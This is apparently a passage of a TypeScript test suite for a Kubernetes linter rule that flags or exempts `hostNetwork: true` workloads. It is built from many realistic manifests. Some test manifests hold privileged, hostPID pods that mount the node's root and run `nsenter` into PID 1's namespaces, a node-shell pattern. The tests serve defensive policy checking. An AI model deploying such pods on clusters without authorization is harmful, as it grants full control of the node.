import { noHostNetwork } from '../../rules/no-host-network.js';
import assert from 'node:assert/strict';
import path from 'node:path';
import { describe, it } from 'node:test';
import { lintOne, ruleTester, yaml } from '../helpers/rule-tester.js';

const config = {
  infraPools: [{ name: 'infra', allowedNamespaces: ['gitlab-runners', 'ci-*'] }],
  hostNetwork: { allow: [{ namespace: 'kube-system', name: 'calico-node' }, { namespace: 'monitoring' }] },
};

const RISK = "on the node's network (port clashes, no pod network policy, CVE-2020-15257).";
const REMOVE = "Remove it, or list the workload in `hostNetwork.allow` if it truly needs the node's network.";
const NO_POOL = `Nothing in its manifest shows that it needs the node's network. ${REMOVE}`;
const OFF_WINDOWS = "Nothing in its manifest shows that it needs the node's network. Its `hostProcess` counts only on Windows nodes, " +
  "and nothing pins it to them (`kubernetes.io/os: windows`): on a Linux node it runs as an ordinary pod on the node's network. " +
  'Pin it to Windows nodes if it is a Windows HostProcess pod; otherwise remove hostNetwork together with `hostProcess` ' +
  "(Kubernetes requires one with the other), or list the workload in `hostNetwork.allow` if it truly needs the node's network.";

ruleTester(noHostNetwork, {
  valid: [
    {
      name: 'no hostNetwork',
      config,
      code: yaml`
        apiVersion: v1
        kind: Pod
        metadata: {name: p, namespace: tenant}
        spec: {containers: [{name: c, image: x}]}
      `,
    },
    {
      name: 'hostNetwork: false, and the YAML 1.1 false forms',
      config,
      code: yaml`
        apiVersion: v1
        kind: Pod
        metadata: {name: a}
        spec: {hostNetwork: false}
        ---
        apiVersion: v1
        kind: Pod
        metadata: {name: b}
        spec: {hostNetwork: no}
        ---
        apiVersion: v1
        kind: Pod
        metadata: {name: c}
        spec: {hostNetwork: Off}
      `,
    },
    {
      name: 'the quoted string "true" is not a boolean (Kubernetes rejects it, not this rule)',
      config,
      code: yaml`
        apiVersion: v1
        kind: Pod
        metadata: {name: a}
        spec: {hostNetwork: "true"}
      `,
    },
    {
      name: 'allowed by namespace and name',
      config,
      code: yaml`
        apiVersion: apps/v1
        kind: DaemonSet
        metadata: {name: calico-node, namespace: kube-system}
        spec:
          template:
            spec:
              hostNetwork: true
      `,
    },
    {
      name: 'allowed by namespace alone',
      config,
      code: yaml`
        apiVersion: apps/v1
        kind: DaemonSet
        metadata: {name: node-exporter, namespace: monitoring}
        spec:
          template:
            spec: {hostNetwork: true}
      `,
    },
    {
      name: 'hostNetwork outside a pod spec is not a pod setting',
      config,
      code: yaml`
        apiVersion: v1
        kind: ConfigMap
        metadata: {name: x}
        data: {hostNetwork: "true"}
        ---
        apiVersion: apps/v1
        kind: Deployment
        metadata: {name: d}
        spec:
          hostNetwork: true
          template: {spec: {}}
      `,
    },
  ],
  invalid: [
    {
      name: 'a Pod in a namespace with no infra pool',
      config,
      code: yaml`
        apiVersion: v1
        kind: Pod
        metadata: {name: web, namespace: tenant-a}
        spec:
          hostNetwork: true
      `,
      errors: [{ message: `\`hostNetwork: true\` puts Pod/tenant-a/web ${RISK} ${NO_POOL}`, line: 5, column: 3, endLine: 5, endColumn: 14 }],
    },
    {
      name: 'YAML 1.1: hostNetwork: yes is host networking; default namespace applies',
      config,
      code: yaml`
        apiVersion: v1
        kind: Pod
        metadata: {name: web}
        spec: {hostNetwork: yes}
      `,
      errors: [{ message: `\`hostNetwork: true\` puts Pod/default/web ${RISK} ${NO_POOL}`, line: 4, column: 8, endLine: 4, endColumn: 19 }],
    },
    {
      name: 'a runner Deployment whose namespace may use the infra pool: names the pool and the annotation',
      config,
      code: yaml`
        apiVersion: apps/v1
        kind: Deployment
        metadata: {name: runner, namespace: gitlab-runners}
        spec:
          template:
            spec:
              hostNetwork: On
      `,
      errors: [{
        message:
          `\`hostNetwork: true\` puts Deployment/gitlab-runners/runner ${RISK} Namespace "gitlab-runners" may use infra pool "infra": ` +
          `remove hostNetwork and add \`cni.projectcalico.org/ipv4pools: '["infra"]'\` under \`spec.template.metadata.annotations\`.`,
        line: 7, column: 7, endLine: 7, endColumn: 18,
      }],
    },
    {
      name: 'a CronJob in a namespace matched by a glob, with an IPv6 infra pool in the scope',
      config,
      code: yaml`
        apiVersion: projectcalico.org/v3
        kind: IPPool
        metadata: {name: infra}
        spec: {cidr: "fd00:64::/64", nodeSelector: "!all()"}
        ---
        apiVersion: batch/v1
        kind: CronJob
        metadata: {name: backup, namespace: ci-nightly}
        spec:
          jobTemplate:
            spec:
              template:
                spec:
                  hostNetwork: true
      `,
      errors: [{
        message:
          `\`hostNetwork: true\` puts CronJob/ci-nightly/backup ${RISK} Namespace "ci-nightly" may use infra pool "infra": ` +
          `remove hostNetwork and add \`cni.projectcalico.org/ipv6pools: '["infra"]'\` under \`spec.jobTemplate.spec.template.metadata.annotations\`.`,
        line: 14, column: 11, endLine: 14, endColumn: 22,
      }],
    },
    {
      name: 'allow names another workload of the namespace',
      config,
      code: yaml`
        apiVersion: apps/v1
        kind: DaemonSet
        metadata: {name: kube-proxy-copy, namespace: kube-system}
        spec:
          template:
            spec: {hostNetwork: true}
      `,
      errors: [{ message: `\`hostNetwork: true\` puts DaemonSet/kube-system/kube-proxy-copy ${RISK} ${NO_POOL}`, line: 6, column: 12, endLine: 6, endColumn: 23 }],
    },
    {
      name: 'every workload kind, inside a List',
      config,
      code: yaml`
        apiVersion: v1
        kind: List
        items:
        - {apiVersion: apps/v1, kind: StatefulSet, metadata: {name: s, namespace: t}, spec: {template: {spec: {hostNetwork: true}}}}
        - {apiVersion: batch/v1, kind: Job, metadata: {name: j, namespace: t}, spec: {template: {spec: {hostNetwork: true}}}}
      `,
      errors: [
        { message: `\`hostNetwork: true\` puts StatefulSet/t/s ${RISK} ${NO_POOL}`, line: 4, column: 104, endLine: 4, endColumn: 115 },
        { message: `\`hostNetwork: true\` puts Job/t/j ${RISK} ${NO_POOL}`, line: 5, column: 97, endLine: 5, endColumn: 108 },
      ],
    },
  ],
});

ruleTester(noHostNetwork, {
  valid: [{ name: 'nothing to report without hostNetwork', code: 'apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec: {}\n' }],
  invalid: [
    {
      name: 'suggests the allowed infra pool that the cluster defines, not the first one configured',
      config: {
        infraPools: [
          { name: 'elsewhere', allowedNamespaces: ['runners'] },
          { name: 'here', allowedNamespaces: ['runners'] },
        ],
      },
      code: yaml`
        apiVersion: projectcalico.org/v3
        kind: IPPool
        metadata: {name: here}
        spec: {cidr: 100.64.0.0/16, nodeSelector: "!all()"}
        ---
        apiVersion: v1
        kind: Pod
        metadata: {name: r, namespace: runners}
        spec: {hostNetwork: true}
      `,
      errors: [{
        message:
          `\`hostNetwork: true\` puts Pod/runners/r ${RISK} Namespace "runners" may use infra pool "here": ` +
          `remove hostNetwork and add \`cni.projectcalico.org/ipv4pools: '["here"]'\` under \`metadata.annotations\`.`,
        line: 9, column: 8, endLine: 9, endColumn: 19,
      }],
    },
  ],
});


/**
 * A workload on the host network: `kind` with its pod template (a Pod's own
 * spec), `spec` lines appended under `hostNetwork: true` (at line 7, column 7
 * for the controllers, line 5, column 3 for a Pod).
 */
function workload(kind: string, name: string, namespace: string, spec = ''): string {
  const indent = kind === 'Pod' ? '  ' : '      ';
  const lines = spec === '' ? '' : '\n' + yaml([spec] as unknown as TemplateStringsArray).split('\n').map((line) => indent + line).join('\n');
  if (kind === 'Pod') return `apiVersion: v1\nkind: Pod\nmetadata: {name: ${name}, namespace: ${namespace}}\nspec:\n  hostNetwork: true${lines}\n`;
  return `apiVersion: apps/v1\nkind: ${kind}\nmetadata: {name: ${name}, namespace: ${namespace}}\nspec:\n  template:\n    spec:\n      hostNetwork: true${lines}\n`;
}

const AT = { line: 7, column: 7, endLine: 7, endColumn: 18 };
const POD_AT = { line: 5, column: 3, endLine: 5, endColumn: 14 };

interface ExemptCase {
  name: string;
  code: string;
  /** What the exemption says decided it. */
  evidence: string;
  filePath?: string;
  config?: Parameters<typeof lintOne>[2];
  at?: typeof AT;
}

/**
 * Exempt pods: reported as suppressed (kind `evidence`, shown in
 * `--format json` under suppressedMessages) with the evidence that decided.
 */
function exemptTable(cases: ExemptCase[]): void {
  describe('no-host-network: exempt by evidence', () => {
    for (const testCase of cases) {
      it(testCase.name, () => {
        const findings = lintOne(noHostNetwork, testCase.code, testCase.config, testCase.filePath);
        const display = /kind: (\w+)/.exec(testCase.code)![1] + '/' + /namespace: ([\w-]+)/.exec(testCase.code)![1] + '/' + /name: ([\w-]+)/.exec(testCase.code)![1];
        assert.deepEqual(findings.map((f) => ({ ruleId: f.ruleId, message: f.message, suppressions: f.suppressions, ...rangeOf(f.range) })), [{
          ruleId: 'no-host-network',
          message: `\`hostNetwork: true\` puts ${display} on the node's network, which it needs: ${testCase.evidence}.`,
          suppressions: [{ kind: 'evidence', justification: `needs the node's network: ${testCase.evidence}` }],
          ...(testCase.at ?? AT),
        }]);
      });
    }
  });
}

function rangeOf(range: { line: number; column: number; endLine: number; endColumn: number }) {
  return { line: range.line, column: range.column, endLine: range.endLine, endColumn: range.endColumn };
}

const HOST_PROCESS = 'a Windows HostProcess pod (`securityContext.windowsOptions.hostProcess: true`)';

exemptTable([
  {
    name: 'calico-node as Calico ships it: critical priority (also privileged with the CNI and module paths)',
    code: workload('DaemonSet', 'calico-node', 'kube-system', `
      tolerations: [{effect: NoSchedule, operator: Exists}, {key: CriticalAddonsOnly, operator: Exists}, {effect: NoExecute, operator: Exists}]
      priorityClassName: system-node-critical
      initContainers: [{name: install-cni, image: quay.io/calico/cni:v3.30.3, securityContext: {privileged: true}}]
      containers: [{name: calico-node, image: quay.io/calico/node:v3.30.3, securityContext: {privileged: true}, volumeMounts: [{name: lib-modules, mountPath: /host/lib-modules}, {name: cni-bin-dir, mountPath: /host/cni-bin-dir}]}]
      volumes: [{name: lib-modules, hostPath: {path: /lib/modules}}, {name: cni-bin-dir, hostPath: {path: /opt/cni/bin}}]
    `),
    evidence: '`priorityClassName: system-node-critical`',
  },
  {
    name: 'kube-proxy with no priority class: privileged, with the iptables lock (preferred over the toleration of every taint)',
    code: workload('DaemonSet', 'kube-proxy', 'kube-system', `
      tolerations: [{operator: Exists}]
      containers: [{name: kube-proxy, image: registry.k8s.io/kube-proxy:v1.32.4, securityContext: {privileged: true}, volumeMounts: [{name: xtables-lock, mountPath: /host/xtables-lock}]}]
      volumes: [{name: kube-proxy, configMap: {name: kube-proxy}}, {name: xtables-lock, hostPath: {path: /run/xtables.lock, type: FileOrCreate}}]
    `),
    evidence: '`privileged: true` in container `kube-proxy` and hostPath `/run/xtables.lock`',
  },
  {
    name: 'Calico for Windows: HostProcess on the pod (Kubernetes requires hostNetwork)',
    code: workload('DaemonSet', 'calico-node-windows', 'calico-system', `
      securityContext: {windowsOptions: {hostProcess: true, runAsUserName: "NT AUTHORITY\\\\system"}}
      nodeSelector: {kubernetes.io/os: windows}
      containers: [{name: node, image: calico/node-windows:v3.30.3}]
    `),
    evidence: HOST_PROCESS,
  },
  {
    name: 'HostProcess on every container, init containers included, and none on the pod; pinned to Windows by `os.name`',
    code: workload('DaemonSet', 'csi-proxy', 'kube-system', `
      os: {name: windows}
      initContainers: [{name: init, image: x, securityContext: {windowsOptions: {hostProcess: true}}}]
      containers: [{name: csi-proxy, image: y, securityContext: {windowsOptions: {hostProcess: true}}}]
    `),
    evidence: 'a Windows HostProcess pod (every container sets `securityContext.windowsOptions.hostProcess: true`)',
  },
  {
    name: "HostProcess pinned to Windows by AKS's OS SKU label (microsoft/SDN's debug DaemonSets)",
    code: workload('DaemonSet', 'hnstracer', 'kube-system', `
      securityContext: {windowsOptions: {hostProcess: true, runAsUserName: "NT AUTHORITY\\\\system"}}
      nodeSelector: {kubernetes.azure.com/os-sku: Windows2019}
      containers: [{name: hnstracer, image: mcr.microsoft.com/windows/servercore:1809}]
    `),
    evidence: HOST_PROCESS,
  },
  {
    name: 'HostProcess pinned to Windows by required node affinity (every term: the OS, or the Windows build label)',
    code: workload('DaemonSet', 'kube-proxy-windows', 'kube-system', `
      securityContext: {windowsOptions: {hostProcess: true}}
      affinity:
        nodeAffinity:
          requiredDuringSchedulingIgnoredDuringExecution:
            nodeSelectorTerms:
              - matchExpressions: [{key: kubernetes.io/os, operator: In, values: [windows]}]
              - matchExpressions: [{key: node.kubernetes.io/windows-build, operator: Exists}]
      containers: [{name: kube-proxy, image: sigwindowstools/kube-proxy:v1.32.4-calico-hostprocess}]
    `),
    evidence: HOST_PROCESS,
  },
  {
    name: 'a cloud controller manager: the uninitialized taint, which the kubelet sets with the value "true"',
    code: workload('DaemonSet', 'aws-cloud-controller-manager', 'kube-system', `
      tolerations: [{key: node.cloudprovider.kubernetes.io/uninitialized, value: "true", effect: NoSchedule}]
    `),
    evidence: 'a toleration of the bootstrap taint `node.cloudprovider.kubernetes.io/uninitialized`',
  },
  {
    name: 'not-ready tolerated for every effect, network-unavailable by Equal without a value',
    code: workload('Deployment', 'operator', 'cni-system', `
      tolerations: [{key: node.kubernetes.io/not-ready, operator: Exists}, {key: node.kubernetes.io/network-unavailable, effect: NoSchedule}]
    `),
    evidence: 'a toleration of the bootstrap taint `node.kubernetes.io/not-ready`',
  },
  {
    name: 'NodeLocal DNSCache: NET_ADMIN (it binds a link-local address on the node)',
    code: workload('DaemonSet', 'node-local-dns', 'kube-system', `
      containers: [{name: node-cache, image: registry.k8s.io/dns/k8s-dns-node-cache:1.22.28, securityContext: {capabilities: {add: [NET_ADMIN]}}}]
    `),
    evidence: 'capability `NET_ADMIN` in container `node-cache`',
  },
  {
    name: 'a MetalLB speaker: NET_RAW after dropping ALL (dropped first), in lower case as every runtime also reads it',
    code: workload('DaemonSet', 'speaker', 'metallb-system', `
      containers: [{name: speaker, image: quay.io/metallb/speaker:v0.14.9, securityContext: {capabilities: {drop: [ALL], add: [net_raw]}}}]
    `),
    evidence: 'capability `net_raw` in container `speaker`',
  },
  {
    name: 'a static pod: a Pod in the kubelet manifest folder, wherever the folder sits in the repository',
    code: workload('Pod', 'kube-vip', 'kube-system', `
      containers: [{name: kube-vip, image: ghcr.io/kube-vip/kube-vip:v0.8.7}]
    `),
    filePath: '/repo/ansible/files/etc/kubernetes/manifests/kube-vip.yaml',
    evidence: "a static pod (a Pod in the kubelet's manifest folder `etc/kubernetes/manifests`)",
    at: POD_AT,
  },
  {
    name: "kubeadm's HA guide: haproxy as a static pod, its config a hostPath file (no node path, no priority class, no capability)",
    code: workload('Pod', 'haproxy', 'kube-system', `
      containers: [{name: haproxy, image: 'haproxy:2.1.4', volumeMounts: [{name: haproxyconf, mountPath: /usr/local/etc/haproxy/haproxy.cfg, readOnly: true}]}]
      volumes: [{name: haproxyconf, hostPath: {path: /etc/haproxy/haproxy.cfg, type: FileOrCreate}}]
    `),
    filePath: '/repo/files/etc/kubernetes/manifests/haproxy.yaml',
    evidence: "a static pod (a Pod in the kubelet's manifest folder `etc/kubernetes/manifests`)",
    at: POD_AT,
  },
  {
    name: "Giant Swarm's Calico datastore migration Job: etcd's client certificates, pinned by the legacy role label `kubernetes.io/role: master`",
    code: workload('Job', 'calico-datastore-migrator-pre', 'kube-system', `
      nodeSelector: {kubernetes.io/role: master}
      tolerations: [{key: CriticalAddonsOnly, operator: Exists}, {key: node-role.kubernetes.io/master, operator: Exists, effect: NoSchedule}]
      containers: [{name: migrate, image: quay.io/giantswarm/calico-upgrade:v1.0.5, volumeMounts: [{name: etcd-certs, mountPath: /etc/kubernetes/ssl}]}]
      volumes: [{name: etcd-certs, hostPath: {path: /etc/kubernetes/ssl}}]
    `),
    evidence: 'hostPath `/etc/kubernetes/ssl` and pinned to control-plane nodes (`nodeSelector` on `kubernetes.io/role`)',
  },
  {
    name: 'a mirror pod, as `kubectl get -o yaml` prints it',
    code: 'apiVersion: v1\nkind: Pod\nmetadata:\n  name: etcd-cp1\n  namespace: kube-system\n  annotations: {kubernetes.io/config.mirror: 2f9a, kubernetes.io/config.source: file}\nspec:\n  hostNetwork: true\n',
    evidence: 'a static pod (mirror-pod annotation `kubernetes.io/config.mirror`)',
    at: { line: 8, column: 3, endLine: 8, endColumn: 14 },
  },
  {
    name: 'a control-plane static pod kept outside the manifest folder: a bare Pod with /etc/kubernetes',
    code: workload('Pod', 'kube-scheduler', 'kube-system', `
      containers: [{name: kube-scheduler, image: registry.k8s.io/kube-scheduler:v1.32.4, volumeMounts: [{name: kubeconfig, mountPath: /host/kubeconfig}]}]
      volumes: [{name: kubeconfig, hostPath: {path: /etc/kubernetes/scheduler.conf, type: FileOrCreate}}]
    `),
    evidence: 'hostPath `/etc/kubernetes/scheduler.conf` and a bare Pod',
    at: POD_AT,
  },
  {
    name: 'an etcd backup CronJob pinned to control-plane nodes, with the etcd certificates',
    code: yaml`
      apiVersion: batch/v1
      kind: CronJob
      metadata: {name: etcd-backup, namespace: kube-system}
      spec:
        jobTemplate:
          spec:
            template:
              spec:
                hostNetwork: true
                nodeSelector: {node-role.kubernetes.io/control-plane: ""}
                containers: [{name: c, image: x, volumeMounts: [{name: pki, mountPath: /host/pki}]}]
                volumes: [{name: pki, hostPath: {path: /etc/kubernetes/pki/etcd}}]
    `,
    evidence: 'hostPath `/etc/kubernetes/pki/etcd` and pinned to control-plane nodes (`nodeSelector` on `node-role.kubernetes.io/control-plane`)',
    at: { line: 9, column: 11, endLine: 9, endColumn: 22 },
  },
  {
    name: 'an etcd defragmentation Job pinned by required node affinity, with etcd data',
    code: workload('Job', 'etcd-defrag', 'kube-system', `
      affinity: {nodeAffinity: {requiredDuringSchedulingIgnoredDuringExecution: {nodeSelectorTerms: [{matchExpressions: [{key: node-role.kubernetes.io/master, operator: Exists}]}]}}}
      containers: [{name: c, image: x, volumeMounts: [{name: data, mountPath: /host/data}]}]
      volumes: [{name: data, hostPath: {path: /var/lib/etcd/}}]
    `),
    evidence: 'hostPath `/var/lib/etcd/` and pinned to control-plane nodes (required node affinity)',
  },
  {
    name: "an RKE2 etcd defragmentation CronJob pinned to etcd nodes, with RKE2's etcd certificates",
    code: yaml`
      apiVersion: batch/v1
      kind: CronJob
      metadata: {name: etcd-defrag, namespace: kube-system}
      spec:
        jobTemplate:
          spec:
            template:
              spec:
                hostNetwork: true
                nodeSelector: {node-role.kubernetes.io/etcd: "true"}
                containers: [{name: c, image: x, volumeMounts: [{name: etcd-certs, mountPath: /host/etcd-certs}]}]
                volumes: [{name: etcd-certs, hostPath: {path: /var/lib/rancher/rke2/server/tls/etcd}}]
    `,
    evidence: 'hostPath `/var/lib/rancher/rke2/server/tls/etcd` and pinned to control-plane nodes (`nodeSelector` on `node-role.kubernetes.io/etcd`)',
    at: { line: 9, column: 11, endLine: 9, endColumn: 22 },
  },
  {
    name: "a CNI agent on k3s with no priority class: privileged, with k3s's CNI config folder",
    code: workload('DaemonSet', 'cni-agent', 'kube-system', `
      containers: [{name: agent, image: x, securityContext: {privileged: true}, volumeMounts: [{name: storage, mountPath: /host/storage}, {name: cni-net-dir, mountPath: /host/cni-net-dir}]}]
      volumes: [{name: storage, hostPath: {path: /var/lib/rancher/k3s/storage}}, {name: cni-net-dir, hostPath: {path: /var/lib/rancher/k3s/agent/etc/cni/net.d}}]
    `),
    evidence: '`privileged: true` in container `agent` and hostPath `/var/lib/rancher/k3s/agent/etc/cni/net.d`',
  },
  {
    name: "the Tigera operator: it tolerates every NoSchedule taint and reads Calico's node state",
    code: workload('Deployment', 'tigera-operator', 'tigera-operator', `
      tolerations: [{effect: NoExecute, operator: Exists}, {effect: NoSchedule, operator: Exists}]
      containers: [{name: c, image: x, volumeMounts: [{name: var-lib-calico, mountPath: /host/var-lib-calico}]}]
      volumes: [{name: var-lib-calico, hostPath: {path: /var/lib/calico}}]
    `),
    evidence: 'hostPath `/var/lib/calico` and a toleration of every NoSchedule taint (`operator: Exists` without a key)',
  },
  {
    name: 'a Windows CSI node plugin (not HostProcess): privileged, with the kubelet folder under C:',
    code: workload('DaemonSet', 'csi-node-win', 'kube-system', `
      containers: [{name: driver, image: x, securityContext: {privileged: true}, volumeMounts: [{name: kubelet-dir, mountPath: /host/kubelet-dir}]}]
      volumes: [{name: kubelet-dir, hostPath: {path: 'C:\\var\\lib\\kubelet\\', type: Directory}}]
    `),
    evidence: '`privileged: true` in container `driver` and hostPath `C:\\var\\lib\\kubelet\\`',
  },
  {
    name: "kubeone's GCE PD CSI controller: required on control-plane nodes and let past their taint (its own priority class and CriticalAddonsOnly say nothing)",
    code: workload('Deployment', 'csi-gce-pd-controller', 'kube-system', `
      nodeSelector: {kubernetes.io/os: linux, node-role.kubernetes.io/control-plane: ""}
      priorityClassName: csi-gce-pd-controller
      tolerations:
        - {key: CriticalAddonsOnly, operator: Exists}
        - {key: node-role.kubernetes.io/control-plane, operator: Exists, effect: NoSchedule}
        - {operator: Exists, effect: NoExecute, tolerationSeconds: 300}
    `),
    evidence: 'pinned to control-plane nodes (`nodeSelector` on `node-role.kubernetes.io/control-plane`) ' +
      'and a toleration of the control-plane taint `node-role.kubernetes.io/control-plane`',
  },
  {
    name: 'required node affinity whose every term pins (an empty term matches no node), the old master taint tolerated by Equal without a value',
    code: workload('Job', 'etcd-defrag', 'kube-system', `
      affinity:
        nodeAffinity:
          requiredDuringSchedulingIgnoredDuringExecution:
            nodeSelectorTerms:
              - matchExpressions: [{key: kubernetes.io/os, operator: In, values: [linux]}, {key: node-role.kubernetes.io/master, operator: Exists}]
              - matchExpressions: [{key: node-role.kubernetes.io/control-plane, operator: In, values: ["", "true"]}]
              - {}
      tolerations: [{key: node-role.kubernetes.io/master, operator: Equal, value: ""}]
    `),
    evidence: 'pinned to control-plane nodes (required node affinity) and a toleration of the control-plane taint `node-role.kubernetes.io/master`',
  },
  {
    name: 'pinned to control-plane nodes, tolerating every taint',
    code: workload('Deployment', 'controller', 'kube-system', `
      nodeSelector: {node-role.kubernetes.io/master: ""}
      tolerations: [{operator: Exists}]
    `),
    evidence: 'pinned to control-plane nodes (`nodeSelector` on `node-role.kubernetes.io/master`) and a toleration of every taint (`operator: Exists` without a key)',
  },
  {
    name: "Prometheus' node exporter as the prometheus-community chart renders it: hostPID with the node's /proc (and /sys, and /)",
    code: workload('DaemonSet', 'prometheus-node-exporter', 'monitoring', `
      hostPID: true
      tolerations: [{effect: NoSchedule, operator: Exists}]
      containers: [{name: node-exporter, image: quay.io/prometheus/node-exporter:v1.9.1, args: [--path.procfs=/host/proc, --path.sysfs=/host/sys, --path.rootfs=/host/root], volumeMounts: [{name: proc, mountPath: /host/proc}, {name: sys, mountPath: /host/sys}, {name: root, mountPath: /host/root}]}]
      volumes: [{name: proc, hostPath: {path: /proc}}, {name: sys, hostPath: {path: /sys}}, {name: root, hostPath: {path: /}}]
    `),
    evidence: '`hostPID: true` and hostPath `/proc`',
  },
  {
    name: "kube-prometheus' node exporter without its priority class: hostPID (YAML 1.1 `yes`) with the node's /sys",
    code: workload('DaemonSet', 'node-exporter', 'monitoring', `
      hostPID: yes
      tolerations: [{operator: Exists}]
      containers: [{name: c, image: x, volumeMounts: [{name: sys, mountPath: /host/sys}, {name: root, mountPath: /host/root}]}]
      volumes: [{name: sys, hostPath: {path: /sys/}}, {name: root, hostPath: {path: /}}]
    `),
    evidence: '`hostPID: true` and hostPath `/sys/`',
  },
  {
    name: "Longhorn's CIFS installer: hostPID with a privileged init container that nsenters PID 1 (no hostPath, priority or toleration)",
    code: workload('DaemonSet', 'longhorn-cifs-installation', 'longhorn-system', `
      hostPID: true
      initContainers:
        - name: cifs-installation
          image: alpine:3.12
          command: [nsenter, --mount=/proc/1/ns/mnt, --, bash, -c, 'apt-get -qy install cifs-utils']
          securityContext: {privileged: true}
      containers: [{name: sleep, image: registry.k8s.io/pause:3.1}]
    `),
    evidence: '`hostPID: true` and `privileged: true` in container `cifs-installation`',
  },
  {
    name: "Longhorn's GKE COS node agent: privileged (with SYS_MODULE) and the node's whole root, no hostPID",
    code: workload('DaemonSet', 'longhorn-gke-cos-node-agent', 'longhorn-system', `
      containers:
        - name: node-agent
          image: alpine:3.17
          securityContext: {privileged: true, capabilities: {add: [SYS_MODULE]}}
          volumeMounts: [{name: host, mountPath: /host}]
      volumes: [{name: host, hostPath: {path: /}}]
    `),
    evidence: "`privileged: true` in container `node-agent` and hostPath `/` (the node's whole root)",
  },
  {
    name: "MicroK8s' Multus addon: the node's CNI folders under the snap's data folder, a placeholder its enable script fills in ($SNAP_DATA/opt/cni/bin/)",
    code: workload('DaemonSet', 'kube-multus-ds', 'kube-system', `
      tolerations: [{operator: Exists, effect: NoSchedule}]
      initContainers: [{name: install-multus-binary, image: ghcr.io/k8snetworkplumbingwg/multus-cni:v4.0.2, securityContext: {privileged: true}, volumeMounts: [{name: cnibin, mountPath: /host/opt/cni/bin}]}]
      containers: [{name: kube-multus, image: ghcr.io/k8snetworkplumbingwg/multus-cni:v4.0.2, volumeMounts: [{name: cni, mountPath: /host/etc/cni/net.d}]}]
      volumes: [{name: cni, hostPath: {path: "$SNAP_DATA/args/cni-network/"}}, {name: cnibin, hostPath: {path: "$SNAP_DATA/opt/cni/bin/"}}]
    `),
    evidence: '`privileged: true` in container `install-multus-binary` and hostPath `$SNAP_DATA/opt/cni/bin/`',
  },
  {
    name: "OpenEBS' node disk manager (kURL's OpenEBS add-on): privileged with the node's whole /proc (udev's netlink events are the node's network namespace's); /sys, /dev and /run/udev beside it",
    code: workload('DaemonSet', 'openebs-ndm', 'openebs', `
      containers:
        - name: node-disk-manager
          image: openebs/node-disk-manager:1.8.0
          securityContext: {privileged: true}
          volumeMounts: [{name: sys, mountPath: /host/sys}, {name: procmount, mountPath: /host/proc, readOnly: true}, {name: udev, mountPath: /run/udev}]
      volumes: [{name: sys, hostPath: {path: /sys}}, {name: udev, hostPath: {path: /run/udev}}, {name: procmount, hostPath: {path: /proc/}}, {name: dev, hostPath: {path: /dev}}]
    `),
    evidence: '`privileged: true` in container `node-disk-manager` and hostPath `/proc/`',
  },
  {
    name: 'a node shell as kubectl-node-shell writes it: a bare Pod, hostPID, privileged, nsenter -t 1 (hostPID named first, before the root)',
    code: workload('Pod', 'nsenter-x1', 'kube-system', `
      hostPID: true
      hostIPC: true
      containers: [{name: nsenter, image: docker.io/library/alpine, command: [nsenter, -t, '1', -m, -u, -i, -n, sleep, '14000'], securityContext: {privileged: true}, volumeMounts: [{name: root, mountPath: /host/root}]}]
      volumes: [{name: root, hostPath: {path: //}}]
    `),
    evidence: '`hostPID: true` and `privileged: true` in container `nsenter`',
    at: POD_AT,
  },
  {
    name: "Calico VPP's debug toolbox (vpp-dataplane's test/policies/ds.yaml): privileged with VPP's config folder, a node path",
    code: workload('DaemonSet', 'debug', 'kube-system', `
      tolerations: [{key: node-role.kubernetes.io/master, effect: NoSchedule}]
      containers: [{name: ns, image: nicolaka/netshoot:latest, command: [bash, -c, sleep infinity], securityContext: {privileged: true}, volumeMounts: [{name: dev, mountPath: /host/dev}, {name: etcvpp, mountPath: /host/etcvpp}]}]
      volumes: [{name: dev, hostPath: {path: /dev}}, {name: etcvpp, hostPath: {path: /etc/vpp}}]
    `),
    evidence: '`privileged: true` in container `ns` and hostPath `/etc/vpp`',
  },
  {
    name: "the node's root spelled `//` with a privileged ephemeral container",
    code: workload('Pod', 'inspector', 'ops', `
      containers: [{name: app, image: x, volumeMounts: [{name: root, mountPath: /host/root}]}]
      ephemeralContainers: [{name: debugger, image: busybox, securityContext: {privileged: true}}]
      volumes: [{name: root, hostPath: {path: //}}]
    `),
    evidence: "`privileged: true` in container `debugger` and hostPath `//` (the node's whole root)",
    at: POD_AT,
  },
  {
    name: "Calico v3.3.1's Typha as aks-engine keeps it: the critical-pod annotation, empty, on a pod template in kube-system",
    code: yaml`
      apiVersion: apps/v1
      kind: Deployment
      metadata: {name: calico-typha, namespace: kube-system}
      spec:
        replicas: 0
        template:
          metadata:
            labels: {k8s-app: calico-typha}
            annotations:
              scheduler.alpha.kubernetes.io/critical-pod: ''
          spec:
            hostNetwork: true
            tolerations: [{key: CriticalAddonsOnly, operator: Exists}]
            containers: [{name: calico-typha, image: quay.io/calico/typha:v3.3.1, ports: [{containerPort: 5473, name: calico-typha}]}]
    `,
    evidence: 'the critical add-on annotation `scheduler.alpha.kubernetes.io/critical-pod` in `kube-system` (Kubernetes 1.11 to 1.15 admitted it as `system-cluster-critical`)',
    at: { line: 12, column: 7, endLine: 12, endColumn: 18 },
  },
  {
    name: 'the critical-pod annotation is named only when nothing else decides: a node path with privileged comes first',
    code: yaml`
      apiVersion: v1
      kind: Pod
      metadata:
        name: calico-node-x
        namespace: kube-system
        annotations: {scheduler.alpha.kubernetes.io/critical-pod: ''}
      spec:
        hostNetwork: true
        containers: [{name: calico-node, image: x, securityContext: {privileged: true}, ports: [{containerPort: 10256}], volumeMounts: [{name: lib-modules, mountPath: /host/lib-modules}]}]
        volumes: [{name: lib-modules, hostPath: {path: /lib/modules}}]
    `,
    evidence: '`privileged: true` in container `calico-node` and hostPath `/lib/modules`',
    at: { line: 8, column: 3, endLine: 8, endColumn: 14 },
  },
  {
    name: "Azure's health-probe proxy: kube-proxy's health check port, declared on the host network (the node's port)",
    code: workload('DaemonSet', 'health-probe-proxy', 'kube-system', `
      nodeSelector: {kubernetes.io/os: linux}
      containers: [{name: health-probe-proxy, image: x, command: [/usr/local/bin/health-probe-proxy], ports: [{containerPort: 10256}]}]
    `),
    evidence: "port 10256 in container `health-probe-proxy`, kube-proxy's health check port on the node",
  },
  {
    name: "the kubelet's API port as a hostPort, TCP written out, in an init container",
    code: workload('DaemonSet', 'kubelet-proxy', 'ops', `
      initContainers: [{name: wait, image: x, ports: [{containerPort: 10250, hostPort: 10250, protocol: TCP}]}]
      containers: [{name: app, image: y, ports: [{containerPort: 9100}]}]
    `),
    evidence: "port 10250 in container `wait`, the kubelet's API port on the node",
  },
  {
